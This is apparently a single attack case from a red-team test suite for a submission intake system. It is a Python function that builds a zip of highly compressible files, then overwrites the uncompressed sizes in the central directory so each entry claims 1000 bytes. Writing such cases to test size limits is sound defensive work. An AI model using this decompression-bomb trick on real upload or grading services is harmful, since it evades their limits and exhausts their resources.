# /// attack
# class = "A58"
# title = "hands in a zip whose sizes lie"
# hope = "a limit may trust what the zip says"
# where = "intake"
# ///
import struct, zipfile
def hand_in(folder, files, targets):
    path = folder / f"{targets['student']}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in files:
            archive.writestr(name, b"x = 1\n" * 5_000_000)
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", data, at + 24, 1000)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
